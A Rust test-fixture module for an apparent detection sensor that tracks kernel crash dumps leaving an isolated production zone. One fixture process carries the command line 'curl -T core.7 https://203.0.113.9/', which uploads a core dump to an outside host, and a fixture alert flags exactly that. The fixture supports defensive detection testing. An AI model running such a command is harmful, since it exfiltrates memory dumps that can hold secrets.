//! Steps and alerts for the unit tests of several modules.

use std::{collections::BTreeMap, sync::Arc};

use sensor_abi::flow::Via;

use crate::{
    alert::Alert,
    clock::Time,
    ndjson::{Missing, Ready},
    step::{
        Carrier, DumpKind, DumpRef, Exposure, FileRef, Gap, Id, Notice, Origin, Peer, Place, Pod, Process, Severity,
        Step, StepKind,
    },
};

/// 2026-11-22T10:00:00.000000007Z.
pub(crate) const NOON: Time = Time(1_795_341_600_000_000_007);

pub(crate) fn content() -> Id {
    Id::of(&[b"content"])
}

pub(crate) fn dump() -> DumpRef {
    DumpRef {
        id: Id::of(&[b"dump"]),
        content: None,
        kind: DumpKind::KernelCore,
        size: Some(1 << 20),
        created: Time(NOON.0 - 5_000_000_000),
        candidates: vec![],
    }
}

pub(crate) fn place(zone: &str, exposure: Exposure) -> Place {
    Place { zone: Arc::from(zone), exposure }
}

pub(crate) fn carrier(name: &str) -> Carrier {
    Carrier { id: Id::of(&[name.as_bytes()]), name: name.into() }
}

fn process() -> Process {
    Process {
        pid: 812,
        parent_pid: 800,
        comm: "curl".into(),
        executable: Some("/usr/bin/curl".into()),
        command_line: Some("curl -T core.7 https://203.0.113.9/".into()),
        user_id: 1000,
        container_id: Some("c0ffee".into()),
        k8s: Some(Arc::new(Pod {
            namespace: "payments".into(),
            name: "signer-0".into(),
            uid: "u".into(),
            labels: BTreeMap::from([("tier".to_owned(), "signing".to_owned())]),
        })),
        ..Process::default()
    }
}

/// A step of the dump from `source` to `sink`, all in the zone `production`.
pub(crate) fn step(kind: StepKind, source: &str, sink: &str, flow: &str) -> Step {
    let production = place("production", Exposure::Isolated);
    let end = |name: &str| (carrier(name), production.clone());
    Step {
        dump: Some(dump()),
        origin: Some(Origin {
            place: production.clone(),
            host: "h1".into(),
            inferred: false,
            process: None,
            candidates: Vec::new(),
        }),
        flow: Id::of(&[flow.as_bytes()]),
        bytes: 4096,
        hops: 1,
        started: Time(NOON.0 - 1_000_000),
        process: Some(Arc::new(process())),
        file: Some(FileRef { path: Some("/var/crash/core.7".into()), inode: 7, fstype: Some("ext4".into()) }),
        ..Step::new(kind, Via::File, NOON, end(source), end(sink))
    }
}

/// A crossing to the Internet.
pub(crate) fn sent() -> Step {
    Step {
        via: Via::Tcp,
        to: place("internet", Exposure::InternetFacing),
        bytes: 600_000,
        read_bytes: 600_000,
        age_ns: Some(2_000_000_000),
        peer: Some(Peer { address: [203, 0, 113, 9].into(), port: 443, transport: "tcp", via_relay: false }),
        ..step(StepKind::Sent, "curl[812]", "203.0.113.9:443", "send")
    }
}

pub(crate) fn alert() -> Alert {
    alert_on(sent())
}

pub(crate) fn alert_on(step: Step) -> Alert {
    let key = Alert::key_of("dump-left-isolation", &step);
    Alert {
        time: Time(step.time.0 + 1000),
        rule: "dump-left-isolation".into(),
        title: "A dump moved from an isolated zone to an Internet-facing zone".into(),
        severity: Severity::Critical,
        summary: "curl[812] sent 600,000 bytes of a kernel-core from production to internet".into(),
        key,
        id: Alert::id_of(key, Severity::Critical),
        supersedes: None,
        suppressed: 0,
        config_hash: "c0".into(),
        step: Arc::new(step),
    }
}

pub(crate) fn gap() -> Gap {
    Gap { from: Time(NOON.0 - 10), to: NOON, cause: "flow_ring_full", count: 7, dumps: vec![dump().id] }
}

pub(crate) fn identified() -> Notice {
    Notice {
        time: NOON,
        kind: "identified",
        text: "The dump has content.".into(),
        dump: Some(dump().id),
        content: Some(content()),
    }
}

pub(crate) fn ready() -> Ready {
    Ready {
        time: NOON,
        backend: "tracepoint".into(),
        arming: "auto".into(),
        enforcement: "observe".into(),
        blocking: "off",
        blocking_why: None,
        problems: Vec::new(),
        missing: vec![Missing { hook: "uring".into(), blind: "reads by io_uring".into() }],
        config_hash: "0123456789abcdef".into(),
        version: "0.1.0".into(),
        pid: 1,
    }
}
